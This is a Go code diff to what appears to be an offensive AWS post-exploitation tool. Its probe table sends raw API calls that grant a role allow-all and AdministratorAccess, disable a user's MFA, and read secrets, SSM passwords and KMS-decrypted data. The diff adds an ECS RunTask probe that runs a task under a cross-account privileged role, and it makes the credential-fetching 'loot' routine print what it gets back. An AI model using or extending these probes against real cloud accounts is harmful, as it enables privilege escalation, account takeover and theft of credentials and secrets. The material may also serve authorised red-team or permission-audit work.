@@ -69,6 +69,7 @@ func probeCalls(name string) probeCall {
 		"put-policy":       form("iam", iam, "Action=PutRolePolicy&RoleName=allow-full-access-from-other-accounts&PolicyName=x&PolicyDocument="+url.QueryEscape(allAllowed)),
 		"attach-policy":    form("iam", iam, "Action=AttachRolePolicy&RoleName=allow-full-access-from-other-accounts&PolicyArn="+url.QueryEscape("arn:aws:iam::aws:policy/AdministratorAccess")),
 		"own-mfa-off":      form("iam", iam, "Action=DeactivateMFADevice&UserName=gruntwork&SerialNumber="+url.QueryEscape("arn:aws:iam::123456789012:mfa/gruntwork")),
+		"run-as-role":      {service: "ecs", target: "AmazonEC2ContainerServiceV20141113.RunTask", body: `{"taskDefinition":"t","overrides":{"taskRoleArn":"arn:aws:iam::345678901234:role/allow-full-access-from-other-accounts"}}`},
 		"secret":           {service: "secretsmanager", target: "secretsmanager.GetSecretValue", body: `{"SecretId":"db"}`},
 		"parameter":        {service: "ssm", target: "AmazonSSM.GetParameter", body: `{"Name":"/db/password"}`},
 		"decrypt":          {service: "kms", target: "TrentService.Decrypt", body: `{"CiphertextBlob":"eA=="}`},
@@ -135,10 +136,11 @@ func ownCredentials() []aws.Credentials {
 		if err != nil {
 			fmt.Println(err)
 		}
-		_, body, err := c.do(http.MethodGet, c.url, "Authorization", string(text))
+		status, body, err := c.do(http.MethodGet, c.url, "Authorization", string(text))
 		if err != nil {
 			fmt.Println(err)
 		}
+		fmt.Println(told(status, body))
 		return lootOf([]byte(body))
 	}
 	return nil
